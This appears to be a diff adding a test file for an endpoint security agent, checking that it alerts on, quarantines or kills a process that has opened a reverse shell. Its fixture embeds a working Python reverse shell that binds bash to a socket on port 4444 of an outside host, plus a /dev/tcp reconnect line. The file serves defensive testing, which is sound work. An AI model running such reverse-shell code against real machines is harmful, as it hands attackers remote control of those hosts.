@@ -1,0 +1,86 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import { ControlClient } from "@ringfence/agent/control";
+import { AttackedAgent } from "./harness/attacked-agent.js";
+import { OUTSIDE } from "./harness/two-networks.js";
+import { until } from "./harness/until.js";
+
+const timeout = 180_000;
+
+/** Takes connections, and prints what came over each until it ended. */
+const SINK = `
+import socket, sys, threading
+s = socket.create_server(("0.0.0.0", int(sys.argv[1])))
+print("ready", flush=True)
+def take(c):
+    c.settimeout(8); got = b""
+    try:
+        while data := c.recv(100): got += data
+    except OSError: pass
+    print("got", got.decode(), flush=True)
+while True: threading.Thread(target=take, args=(s.accept()[0],)).start()
+`;
+
+/**
+ * A shell on a connection that was opened by its parent. It says "one", waits until it was found, says "two", and tries to
+ * connect again; what came of that goes to a file.
+ */
+const VICTIM = `
+import os, socket, subprocess, sys
+c = socket.create_connection((sys.argv[1], 4444))
+script = """
+echo one
+sleep 3
+echo two
+(exec 3<>/dev/tcp/%s/4444) 2>%s && echo connected >>%s
+""" % (sys.argv[1], sys.argv[2], sys.argv[2])
+subprocess.run(["bash", "--norc", "-c", script], stdin=c, stdout=c)
+`;
+
+async function attacked(name: string, attacks: object) {
+  const place = new AttackedAgent(name, attacks);
+  await place.agent.start();
+  const said: string[] = [];
+  const sink = await place.serve("outside", "python3", "-u", "-c", SINK, "4444");
+  sink.stdout?.on("data", (text: Buffer) => said.push(text.toString()));
+  const file = `${place.agent.folder}/second`;
+  await place.inside("python3", "-c", VICTIM, OUTSIDE, file);
+  const alert = await place.alert("shell");
+  const second = await place.inside("cat", file);
+  return { place, alert, said, second };
+}
+
+describe("the answer to an alert", () => {
+  test("is only said while dryRun is set", { timeout }, async () => {
+    const { place, alert, second } = await attacked("dry", { shell: { response: "quarantine" } });
+    await using _ = place;
+    assert.match(alert.response, /^dry run: would cut process \d+ and all below it off/);
+    assert.equal(second, "connected\n");
+  });
+
+  test("cuts the tree off from the network until it is released", { timeout }, async () => {
+    const { place, alert, said, second } = await attacked("quarantine", {
+      dryRun: false,
+      shell: { response: "quarantine" },
+    });
+    await using _ = place;
+    assert.match(alert.response, /until it is released: [2-9] processes/);
+    assert.match(second, /Operation not permitted/);
+    assert.ok(!said.join("").includes("two"), `nothing more leaves on the connection: ${said}`);
+    const isDenied = () =>
+      place.events.some((event) => event.type === "verdict" && event.reason === "quarantine");
+    assert.ok(await until(isDenied, 20_000), "the denial names its reason");
+    using client = await ControlClient.connect(place.agent.socket);
+    const state = (await client.request("attacks.state")) as { shutOut: object };
+    assert.deepEqual(state.shutOut, { processes: 0, addresses: 0 }, "whoever ended is cut off no more");
+  });
+
+  test("kills", { timeout }, async () => {
+    const place = new AttackedAgent("kill", { dryRun: false, shell: { response: "kill" } });
+    await using _ = place;
+    await place.agent.start();
+    await place.serve("outside", "python3", "-u", "-c", SINK, "4444");
+    await assert.rejects(place.inside("python3", "-c", VICTIM, OUTSIDE, "/dev/null"), /ended with null/);
+    assert.match((await place.alert("shell")).response, /^kill process/);
+  });
+});
